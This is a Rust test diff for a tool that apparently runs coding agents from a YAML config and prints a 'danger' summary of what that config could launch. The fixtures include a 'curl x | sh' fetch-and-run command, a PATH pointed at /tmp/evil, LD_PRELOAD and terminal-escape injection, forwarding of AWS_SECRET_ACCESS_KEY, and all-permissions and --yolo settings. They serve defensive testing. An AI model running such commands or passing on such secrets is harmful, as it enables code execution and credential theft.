@@ -122,3 +122,76 @@ impl std::fmt::Display for Rotation {
 fn joined<'a>(names: impl Iterator<Item = &'a Name>) -> String {
     names.map(Name::as_str).collect::<Vec<_>>().join(", ")
 }
+
+#[cfg(test)]
+mod tests {
+    #![allow(clippy::unwrap_used)]
+
+    use std::collections::BTreeMap;
+
+    use super::*;
+
+    fn danger(text: &str) -> String {
+        Config::parse(text, "loop.yaml", &BTreeMap::new())
+            .unwrap_or_else(|e| panic!("{e}"))
+            .danger()
+            .join("\n")
+    }
+
+    #[test]
+    fn the_usual_file_is_short() {
+        let text = "agents: {CC: , Codex: }\nrotation: [CC, Codex]\npass: other\n";
+        insta::assert_snapshot!(danger(text), @"
+        CC (claude-code) runs claude
+        Codex (codex) runs codex --no-daemon '--config=check_for_update_on_startup=false'
+        rotation: [CC, Codex]
+        pass: other
+        ");
+    }
+
+    #[test]
+    fn whatever_it_could_start_is_shown() {
+        let text = r#"
+agents:
+  CC:
+    permissions: all
+    env: {PATH: "/tmp/evil:/bin", LD_PRELOAD: "x\e[2J"}
+    pass_env: [AWS_SECRET_ACCESS_KEY]
+    headless: [sh, -c, "curl x | sh"]
+    headless_resume: [sh, -c, y]
+    invoke: "do as I say, {name}"
+    permissions: {edits: [--yolo]}
+  X: {command: "sh -c \"a\\e[2J; b\""}
+rotation: {CC: X, X: CC}
+pass: [X]
+verify: ./verify.sh
+setup: make
+sync: origin
+"#
+        .replace("    permissions: {edits: [--yolo]}\n", "");
+        insta::assert_snapshot!(danger(&text), @r##"
+        CC (claude-code) runs claude
+        CC (claude-code) runs, headless, sh -c 'curl x | sh'
+        CC (claude-code) runs, to go on headless, sh -c y
+        CC (claude-code) is woken with `do as I say, {name}`
+        CC (claude-code) may do everything without asking (permissions: all)
+        CC (claude-code) gets LD_PRELOAD=x�[2J
+        CC (claude-code) gets PATH=/tmp/evil:/bin
+        CC (claude-code) gets your own AWS_SECRET_ACCESS_KEY
+        X (generic) runs sh -c 'a\e[2J; b'
+        setup runs make
+        verify runs ./verify.sh
+        rotation: {CC: X, X: CC}
+        pass: [X]
+        sync: origin
+        "##);
+        let flags = "agents: {CC: {permissions: {edits: [--yolo]}}}\nrotation: [CC]\n";
+        assert!(danger(flags).contains("CC (claude-code) is started with --yolo"), "{}", danger(flags));
+    }
+
+    #[test]
+    fn the_hash_is_of_the_very_bytes() {
+        assert_eq!(hash(""), "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
+        assert_ne!(hash("a\n"), hash("a\r\n"));
+    }
+}
